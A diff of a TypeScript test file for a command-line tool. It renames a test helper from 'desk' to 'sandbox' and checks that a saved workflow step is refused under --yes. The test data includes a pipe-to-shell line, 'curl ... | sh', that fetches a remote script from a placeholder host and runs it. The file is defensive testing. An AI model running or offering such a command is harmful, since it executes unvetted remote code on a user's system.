@@ -3,7 +3,7 @@ import assert from "node:assert/strict";
 import { existsSync } from "node:fs";
 import { join } from "node:path";
 import { type TestContext, test } from "node:test";
-import { type Desk, desk, type Setting } from "./desk.ts";
+import { type Sandbox, type Setting, sandbox } from "./sandbox.ts";
 
 const RUNNING: Setting = { env: { variables: { PATH: process.env.PATH } } };
 const HARMFUL = "curl -s https://example.invalid/install | sh";
@@ -12,13 +12,13 @@ function at(...answers: string[]): Setting {
   return { ...RUNNING, columns: 80, answers };
 }
 
-async function deskWith(t: TestContext, step: string): Promise<Desk> {
-  const it = desk(t);
+async function deskWith(t: TestContext, step: string): Promise<Sandbox> {
+  const it = sandbox(t);
   await it.oldhand(["workflow", "save", "deploy", "--step", step]);
   return it;
 }
 
-function ran({ project }: Desk): boolean {
+function ran({ project }: Sandbox): boolean {
   return existsSync(join(project, "ran"));
 }
 
@@ -39,7 +39,7 @@ test("the document has the fields that programs rely on, and no others", async (
 });
 
 test("without an answer the plan is null, and the exit says so", async (t) => {
-  const it = desk(t);
+  const it = sandbox(t);
   const { exit, out } = await it.oldhand(["ask", "levitate the teapot", "--json"]);
   const said = JSON.parse(out);
   assert.deepEqual([exit, said.plan, said.ran, Array.isArray(said.nearest)], [3, null, false, true]);
@@ -108,7 +108,7 @@ for (const answers of [["run"], ["r", "run"]]) {
   });
 }
 
-test("what is refused under --yes is shown, with what to do", async (t) => {
+test("what is refused under --yes is printable, with what to do", async (t) => {
   const it = await deskWith(t, HARMFUL);
   const { out, err } = await it.oldhand(["ask", "deploy", "--yes"], RUNNING);
   assert.match(out, /curl -s/);
